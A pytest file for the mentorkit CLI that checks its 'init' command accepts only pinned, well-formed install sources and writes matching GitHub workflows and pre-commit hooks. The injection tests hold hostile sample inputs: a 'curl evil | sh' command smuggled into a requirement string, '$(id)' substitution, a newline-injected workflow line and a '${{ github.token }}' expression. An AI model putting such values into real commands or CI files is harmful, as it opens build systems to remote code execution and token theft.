"""How a new program installs mentorkit: init stands behind its choice or says why it cannot."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from mentorkit.cli.main import cli
from mentorkit.workflow.initialize import InitOptions, plan_init
from mentorkit.workflow.install_source import (
    action_source,
    detected_source,
    requirement_source,
)
from tests.workflow.conftest import TODAY, run

REPO = Path(__file__).resolve().parents[2]
SHA = "0123456789abcdef0123456789abcdef01234567"


def test_the_action_must_be_pinned_to_a_full_commit() -> None:
    for unpinned in ("acme/mentorkit@v1", "acme/mentorkit@main", f"acme/mentorkit@{SHA[:12]}"):
        with pytest.raises(ValueError, match="not pinned"):
            action_source(unpinned)
    for wrong in ("mentorkit", f"acme@{SHA}", f"acme/mentorkit@{SHA}; curl x", "a/b/c@x y"):
        with pytest.raises(ValueError):
            action_source(wrong)
    source = action_source(f"acme/mentorkit@{SHA}")
    assert source.pinned and source.action_repository == "acme/mentorkit"
    # A commit can be reached through the repository's name from a fork: said, not hidden.
    assert any("fork" in warning for warning in source.warnings)


@pytest.mark.parametrize(
    "hostile",
    ['x"; curl evil | sh; "', "mentorkit $(id)", "mentorkit\nrun: x", "${{ github.token }}"],
)
def test_a_requirement_that_could_inject_shell_is_refused(hostile: str) -> None:
    with pytest.raises(ValueError, match="is not a pip requirement"):
        requirement_source(hostile)


def test_an_index_version_is_never_taken_silently() -> None:
    assert requirement_source("mentorkit==0.1.0").warnings
    pinned = requirement_source(f"mentorkit @ git+https://git.example.org/tools/mentorkit@{SHA}")
    assert pinned.pinned and not pinned.warnings
    local = requirement_source("mentorkit @ file:///home/me/mentorkit-0.1.0-py3-none-any.whl")
    assert "cannot reach it" in local.warnings[0]


def test_the_default_follows_how_the_running_mentorkit_was_installed() -> None:
    from_github = detected_source(
        {
            "url": "https://github.com/acme/mentorkit.git",
            "vcs_info": {"vcs": "git", "commit_id": SHA},
        }
    )
    assert (from_github.kind, from_github.spec) == ("action", f"acme/mentorkit@{SHA}")
    assert not from_github.warnings
    elsewhere = detected_source(
        {
            "url": "https://git.example.org/tools/mentorkit",
            "vcs_info": {"vcs": "git", "commit_id": SHA},
        }
    )
    assert elsewhere.spec == f"mentorkit @ git+https://git.example.org/tools/mentorkit@{SHA}"
    for origin in (None, {"url": "file:///home/me/mentorkit-0.1.0-py3-none-any.whl"}):
        fallback = detected_source(origin, "0.1.0")
        assert fallback.spec == "mentorkit==0.1.0"
        assert fallback.warnings and "cannot verify" in fallback.warnings[0]


def _steps(text: str) -> list[dict[str, object]]:
    workflow = yaml.safe_load(text)
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def test_workflows_use_the_pinned_action_and_the_hook_the_same_commit() -> None:
    files = plan_init(InitOptions(today=TODAY, install=action_source(f"acme/mentorkit@{SHA}")))
    for name in ("mentorkit-pr.yml", "mentorkit-pages.yml"):
        steps = _steps(files[f".github/workflows/{name}"])
        assert {"name": "Install mentorkit", "uses": f"acme/mentorkit@{SHA}"} in steps
        assert "pip install" not in files[f".github/workflows/{name}"]
    hook = yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0]
    assert (hook["repo"], hook["rev"]) == ("https://github.com/acme/mentorkit", SHA)
    assert f"uses: acme/mentorkit@{SHA}" in files["README.md"]


def test_a_pip_source_reaches_workflows_and_pre_commit() -> None:
    spec = f"mentorkit @ git+https://git.example.org/tools/mentorkit.git@{SHA}"
    files = plan_init(InitOptions(today=TODAY, install=requirement_source(spec)))
    for name in ("mentorkit-pr.yml", "mentorkit-pages.yml"):
        assert f'python -m pip install "{spec}"' in files[f".github/workflows/{name}"]
    hook = yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0]["hooks"][0]
    assert hook["additional_dependencies"] == [spec]


def test_the_pr_workflow_builds_strictly_and_the_site_is_rebuilt_daily() -> None:
    files = plan_init(InitOptions(today=TODAY))
    runs = [str(s.get("run", "")) for s in _steps(files[".github/workflows/mentorkit-pr.yml"])]
    assert any(r.startswith("mentorkit build") for r in runs)
    pages = yaml.safe_load(files[".github/workflows/mentorkit-pages.yml"])
    triggers = pages[True]  # PyYAML reads `on` as True
    assert re.fullmatch(r"\d+ \d+ \* \* \*", triggers["schedule"][0]["cron"])


def test_init_records_and_warns_about_an_unverified_source(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["init", str(tmp_path / "p"), "--coordinator", "lead", "--mentorkit-requirement",
              "mentorkit==0.1.0"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "warning:" in result.stderr and "cannot check" in result.stderr
    assert "NOT VERIFIED" in result.stdout
    readme = (tmp_path / "p" / "README.md").read_text(encoding="utf-8")
    assert "Check before you push" in readme and 'pip install "mentorkit==0.1.0"' in readme


def test_init_takes_one_source_and_needs_a_coordinator(tmp_path: Path) -> None:
    both = CliRunner().invoke(
        cli, ["init", str(tmp_path / "a"), "--coordinator", "lead", "--action",
              f"acme/mentorkit@{SHA}", "--mentorkit-requirement", "mentorkit==0.1.0"],
    )  # fmt: skip
    assert both.exit_code == 2 and "choose one install source" in both.stderr
    tag = CliRunner().invoke(
        cli, ["init", str(tmp_path / "b"), "--coordinator", "lead", "--action", "acme/m@v1"]
    )
    assert tag.exit_code == 2 and "not pinned" in tag.stderr
    nobody = CliRunner().invoke(cli, ["init", str(tmp_path / "c")])
    assert nobody.exit_code == 2 and "--coordinator" in nobody.stderr
    assert not (tmp_path / "a").exists() and not (tmp_path / "c").exists()


def test_the_hook_validates_the_whole_program_so_removing_a_used_skill_fails(
    tmp_path: Path,
) -> None:
    files = plan_init(InitOptions(today=TODAY, example=True))
    for rel, text in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text, encoding="utf-8")
    local = yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0]["hooks"][0]
    offered = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
    for hook in (local, offered):  # the pip hook, and the one `repo: <mentorkit>` installs
        assert hook["entry"] == "mentorkit validate" and hook["pass_filenames"] is False
        assert re.search(hook["files"], "program/skills.yaml")
    skills = tmp_path / "program" / "skills.yaml"
    text = skills.read_text(encoding="utf-8")
    assert re.search(r"^  - id: sql$", text, re.M)
    # Only skills.yaml changes, yet the participants who use "sql" now fail.
    skills.write_text(re.sub(r"(?ms)^  - id: sql$.*?(?=^  - id: )", "", text), encoding="utf-8")
    code, out, _ = run(tmp_path, *local["entry"].split()[1:])
    assert code == 1 and "unknown-skill" in out and "participants/" in out, out
